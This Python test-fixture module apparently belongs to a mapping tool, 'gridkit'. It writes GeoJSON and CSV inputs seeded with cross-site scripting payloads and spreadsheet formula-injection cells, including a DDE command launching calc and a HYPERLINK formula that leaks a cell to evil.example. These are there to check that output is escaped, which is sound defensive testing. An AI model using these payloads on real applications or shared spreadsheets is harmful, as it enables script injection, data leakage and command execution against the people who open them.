"""A small hostile corpus: script payloads and spreadsheet formulas in every text field.

:func:`write_corpus` writes, into one folder, the inputs of every gridkit command with
payloads in each text value *and* in extra column names:

- ``communities.geojson``: two square communities (id, name, street, an extra column);
- ``households.csv``: one row per building with a count, ids, building ids, compounds;
- ``compounds.geojson`` and ``barriers.geojson``: names and extra columns;
- ``roster.csv`` (written after a partition, :func:`write_roster`): names, roles, ids;
- a hand-made previous grid layer (:func:`hostile_previous`).

Every script payload would set ``document.title`` to :data:`PWNED` if the browser ran
it; the browser tests check that the title never changes.
"""

from __future__ import annotations

import json
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import shapely

#: What a payload sets ``document.title`` to.
PWNED = "PWNED"

#: Script payloads (each sets the title when it runs).
SCRIPTS = (
    f"<img src=x onerror=\"document.title='{PWNED}'\">",
    f"<svg onload=document.title='{PWNED}'>",
    f"</script><script>document.title='{PWNED}'</script>",
    f"\"><img src=x onerror=document.title='{PWNED}'>",
    f"'><details open ontoggle=document.title='{PWNED}'>",
    f"<iframe srcdoc=\"<script>parent.document.title='{PWNED}'</script>\">",
)

#: Cells a spreadsheet would run as formulas.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc",
    "\t=1+1",
)

#: Numbers that must stay numbers (never prefixed).
NUMBERS = ("-12.5", "+86", "1e-3")

#: The origin of the corpus (Wuhan, WGS84) and the size of a community (metres).
ORIGIN = (114.30, 30.55)
SIDE_M = 420.0


def payload(k: int) -> str:
    """The k-th script payload (cycling)."""
    return SCRIPTS[k % len(SCRIPTS)]


def _deg(dx: float, dy: float) -> tuple[float, float]:
    lat = ORIGIN[1]
    return dx / (111_320.0 * np.cos(np.radians(lat))), dy / 110_574.0


def _square(x0: float, y0: float, side: float) -> shapely.Polygon:
    ax, ay = _deg(x0, y0)
    bx, by = _deg(x0 + side, y0 + side)
    return shapely.box(ORIGIN[0] + ax, ORIGIN[1] + ay, ORIGIN[0] + bx, ORIGIN[1] + by)


def community_ids() -> list[str]:
    """Community ids: a payload each (grid codes are built from them)."""
    return [f"A{SCRIPTS[0]}", f"B{SCRIPTS[3]}"]


def write_corpus(folder: Path, *, households_per_building: int = 110) -> dict[str, Path]:
    """Write the hostile inputs; returns their paths by kind.

    Two communities of 3 x 4 buildings of ``households_per_building`` households
    (1,320 each: two or three grids of 400-800).
    """
    folder.mkdir(parents=True, exist_ok=True)
    ids = community_ids()
    squares = [_square(0, 0, SIDE_M), _square(SIDE_M, 0, SIDE_M)]
    communities = gpd.GeoDataFrame(
        {
            "community_id": ids,
            "name": [f"社区{payload(1)}", f"社区{payload(2)}"],
            "street": [f"街道{payload(4)}", FORMULAS[0]],
            payload(5): [payload(0), FORMULAS[1]],
        },
        geometry=squares,
        crs=4326,
    )
    paths = {
        "communities": folder / "communities.geojson",
        "households": folder / "households.csv",
        "compounds": folder / "compounds.geojson",
        "barriers": folder / "barriers.geojson",
    }
    communities.to_file(paths["communities"], engine="pyogrio")
    rows = []
    k = 0
    for _c, x0 in enumerate((0.0, SIDE_M)):
        for i in range(3):
            for j in range(4):
                dx, dy = _deg(x0 + 60 + i * 140, 50 + j * 100)
                rows.append(
                    {
                        # rows 13-15: ids that are plain numbers ("-12.5"), kept as they are
                        "household_id": (FORMULAS + SCRIPTS + NUMBERS)[k]
                        if 12 <= k < 15
                        else (FORMULAS + SCRIPTS + NUMBERS)[k % 15] + f"#{k}",
                        "building_id": f"{payload(k)}#{k}",
                        "households": households_per_building,
                        "lon": round(ORIGIN[0] + dx, 7),
                        "lat": round(ORIGIN[1] + dy, 7),
                        payload(2): FORMULAS[k % len(FORMULAS)],
                        "note": NUMBERS[k % len(NUMBERS)],
                    }
                )
                k += 1
    pd.DataFrame(rows).to_csv(paths["households"], index=False)
    compounds = gpd.GeoDataFrame(
        {"name": [f"小区{payload(3)}", FORMULAS[2]], payload(1): [payload(4), payload(5)]},
        geometry=[_square(30, 20, 200), _square(SIDE_M + 30, 20, 200)],
        crs=4326,
    )
    compounds.to_file(paths["compounds"], engine="pyogrio")
    ax, ay = _deg(0, 2.5 * 100 + 50)
    bx, _ = _deg(2 * SIDE_M, 0)
    barriers = gpd.GeoDataFrame(
        {"name": [f"路{payload(2)}"], payload(3): [FORMULAS[3]]},
        geometry=[shapely.LineString([(ORIGIN[0] + ax, ORIGIN[1] + ay),
                                      (ORIGIN[0] + bx, ORIGIN[1] + ay)])],
        crs=4326,
    )  # fmt: skip
    barriers.to_file(paths["barriers"], engine="pyogrio")
    return paths


def write_roster(grids_path: Path, path: Path, *, seed: int = 0) -> Path:
    """A roster for the grids with payloads in names, ids and an extra column (raw CSV)."""
    from gridkit.staffing.synthetic import make_roster

    roster = make_roster(grids_path, seed=seed)
    n = len(roster)
    roster["name"] = [f"{payload(i)}{i}" for i in range(n)]
    roster["worker_id"] = [f"{(FORMULAS + SCRIPTS)[i % 12]}W{i}" for i in range(n)]
    roster[payload(0)] = [payload(i + 1) for i in range(n)]
    geoms = roster.geometry.to_numpy()
    table = pd.DataFrame(roster.drop(columns=roster.geometry.name))
    ok = ~shapely.is_missing(geoms)
    table["lon"] = np.where(ok, shapely.get_x(geoms), np.nan).round(7)
    table["lat"] = np.where(ok, shapely.get_y(geoms), np.nan).round(7)
    table.to_csv(path, index=False, encoding="utf-8")
    return path


def hostile_previous(out_dir: Path, folder: Path) -> Path:
    """A hand-made copy of a grid folder with payload columns and values (no manifest)."""
    folder.mkdir(parents=True, exist_ok=True)
    grids = gpd.read_file(out_dir / "grids.geojson", engine="pyogrio")
    grids[payload(0)] = [payload(i) for i in range(len(grids))]
    grids["grid_name"] = [f"{n}{payload(i + 2)}" for i, n in enumerate(grids["grid_name"])]
    grids.to_file(folder / "grids.geojson", engine="pyogrio")
    for name in ("assignments.csv", "buildings.geojson"):
        (folder / name).write_bytes((out_dir / name).read_bytes())
    return folder


def formula_cells(path: Path) -> list[str]:
    """Cells of a CSV gridkit wrote that a spreadsheet would run (should be none)."""
    import csv

    bad = []
    with path.open(encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "|", "\t", "\r") and not _is_number(cell):
                    bad.append(cell)
    return bad


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def manifest_files(folder: Path) -> dict:
    """The file list of a folder's ``gridkit-outputs.json``."""
    return json.loads((folder / "gridkit-outputs.json").read_text(encoding="utf-8"))["files"]
